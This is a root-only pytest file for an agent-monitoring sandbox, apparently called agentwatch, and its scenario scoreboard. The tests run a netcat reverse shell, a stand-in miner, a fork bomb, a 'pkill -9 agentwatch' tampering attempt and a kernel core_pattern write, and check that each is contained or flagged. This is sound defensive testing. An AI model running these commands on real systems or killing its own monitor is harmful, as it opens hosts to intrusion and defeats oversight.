"""Scenarios for real: what they do is seen, what they break is thrown away, nothing is left of them."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest

from agentwatch.kernel.cgroup import PARENT, find_mount
from agentwatch.resources import RULES
from agentwatch.rules.load import load_rules
from bench.scoreboard import trial
from bench.scoreboard.limits import PIDS
from bench.scoreboard.network import Network, network
from bench.scoreboard.scenarios import Scenario
from bench.scoreboard.tools import compile_all
from bench.scoreboard.trial import Observation
from tests.lab import eventually

pytestmark = [pytest.mark.root, pytest.mark.skipif(os.geteuid() != 0, reason="needs root")]
ROOT = Path(__file__).parents[3]


@pytest.fixture(scope="module")
def where(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Network]:
    stand_ins = compile_all(tmp_path_factory.mktemp("stand-ins"))
    if stand_ins is None:
        pytest.skip("no C compiler")
    with network(["ssh u@203.0.113.5; nc 198.51.100.10 4433"], stand_ins) as made:
        yield made


def watch(where: Network, command: str, *, kind: str = "benign", expected: str = "allow") -> Observation:
    scenario = Scenario("x", kind, "test", command, expected, seconds=15)
    return trial.run(scenario, where, load_rules([RULES]))


def test_a_miner_is_met_with_a_verdict(where: Network) -> None:
    seen = watch(where, "python3 fakeminer.py --to 198.51.100.10:4433", kind="attack", expected="pause")
    assert seen.verdict in ("pause", "kill")
    assert "198.51.100.10:4433" in seen.account.connections
    assert seen.seconds < 15


def test_honest_work_is_done_and_left_alone(where: Network) -> None:
    seen = watch(where, "ssh u@203.0.113.5 echo far; curl -s https://example.org/; cat /proc/self/cgroup")
    assert (seen.verdict, seen.failed) == ("allow", False)
    assert "far\n" in seen.output and "42" in seen.output
    assert "ssh u@203.0.113.5 echo far" in seen.account.programs


def test_an_operator_types_into_a_shell(where: Network) -> None:
    seen = watch(where, "nc -e /bin/sh 203.0.113.5 4001", kind="attack", expected="kill")
    assert "nc -e /bin/sh 203.0.113.5 4001" in seen.account.programs


def test_what_it_writes_is_thrown_away(where: Network, tmp_path: Path) -> None:
    files = [tmp_path / "mark", Path("/etc/agentwatch-mark"), Path("/usr/agentwatch-mark")]
    touch = " ".join(map(str, files))
    pattern = Path("/proc/sys/kernel/core_pattern")
    before = pattern.read_text()
    seen = watch(
        where, f"mkdir -p {tmp_path}; touch {touch} && ls {touch}; echo x > {pattern}; cat {pattern}"
    )
    assert str(files[1]) in seen.output and seen.output.endswith("x\n")
    assert not any(file.exists() for file in files)
    assert pattern.read_text() == before


def test_it_sees_no_process_device_or_bus_of_the_host(where: Network) -> None:
    seen = watch(where, "ls /proc /dev; ls /run; pgrep -x agentwatch && pkill -9 agentwatch")
    words = seen.output.split()
    assert len([word for word in words if word.isdigit() and int(word) > 50]) == 0
    assert "null" in words and not {"vda", "sda", "loop0", "systemd", "dbus"} & set(words)
    assert "tampering signal" in seen.account.others


BOMB = f"""
import os, signal
made = 0
try:
    while made < {2 * PIDS}:
        if os.fork() == 0:
            signal.pause()
        made += 1
except BlockingIOError:
    print(made, flush=True)
os.killpg(0, signal.SIGKILL)
"""


def test_a_fork_bomb_is_bounded(where: Network) -> None:
    seen = watch(where, f"python3 -c '{BOMB}'")
    assert 0 < int(seen.output) < PIDS


def test_a_command_that_cannot_run_is_told_apart(where: Network) -> None:
    assert watch(where, "python3 no_such_script.py").failed


@pytest.mark.parametrize(
    ("script", "never"),
    [("mount -t cgroup x /mnt", True), ("mount -t cgroup2 x /mnt", False), ("a (b", True), ("ls", False)],
)
def test_what_is_never_run(script: str, never: bool) -> None:
    assert bool(trial.why_not(script)) == never


@contextmanager
def board(*words: str) -> Iterator[subprocess.Popen[str]]:
    """The scoreboard as a program; its files go even if it is killed."""
    command = [sys.executable, "-m", "bench.scoreboard", "--set", "own", "--json", *words]
    # Not tmp_path: paths of Unix sockets are short.
    with (
        tempfile.TemporaryDirectory(prefix="board-") as folder,
        subprocess.Popen(
            command,
            cwd=ROOT,
            env=os.environ | {"TMPDIR": folder},
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            text=True,
        ) as run,
    ):
        yield run


def test_parts_are_run_side_by_side() -> None:
    names = {"honest-20", "honest-21", "honest-37"}
    with board("--jobs", "2", *(word for name in names for word in ("--only", name))) as run:
        told = [json.loads(line) for line in run.communicate(timeout=120)[0].splitlines()]
    assert run.returncode == 0
    assert {one["id"] for one in told} == names
    assert all(one["how"] == "real" and one["right"] for one in told)


def test_parts_end_with_the_whole() -> None:
    with board("--jobs", "2", "--only", "shell-03", "--only", "shell-05") as run:
        eventually(lambda: len(_descendants(run.pid)) > 12, 60)
        below = _descendants(run.pid)
        run.terminate()
        run.communicate(timeout=60)
    eventually(lambda: not any(_runs(pid) for pid in below), 30)


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM, signal.SIGKILL])
def test_nothing_is_left_when_it_is_ended(number: signal.Signals) -> None:
    """In the middle of a scenario: its processes, its links, its cgroups."""
    with board("--only", "shell-05") as run:
        top = find_mount() / PARENT / f"scoreboard-{run.pid}"
        agent = top / "agent" / "cgroup.procs"
        eventually(lambda: agent.exists() and agent.read_text(), 60)
        below = _descendants(run.pid)
        assert len(below) > 5
        run.send_signal(number)
        run.communicate(timeout=30)
    eventually(lambda: not any(_runs(pid) for pid in below))
    if number != signal.SIGKILL:
        assert not top.exists()
    else:  # the next run sweeps what a killed one left
        assert not agent.read_text()


def _children(pid: int) -> list[int]:
    with suppress(FileNotFoundError, ProcessLookupError):  # it may end meanwhile
        tasks = Path(f"/proc/{pid}/task").glob("*/children")
        return [int(child) for task in tasks for child in task.read_text().split()]
    return []


def _descendants(pid: int) -> list[int]:
    found = _children(pid)
    for child in found:
        found += _children(child)
    return found


def _runs(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] not in "ZX"
    except (FileNotFoundError, ProcessLookupError):
        return False
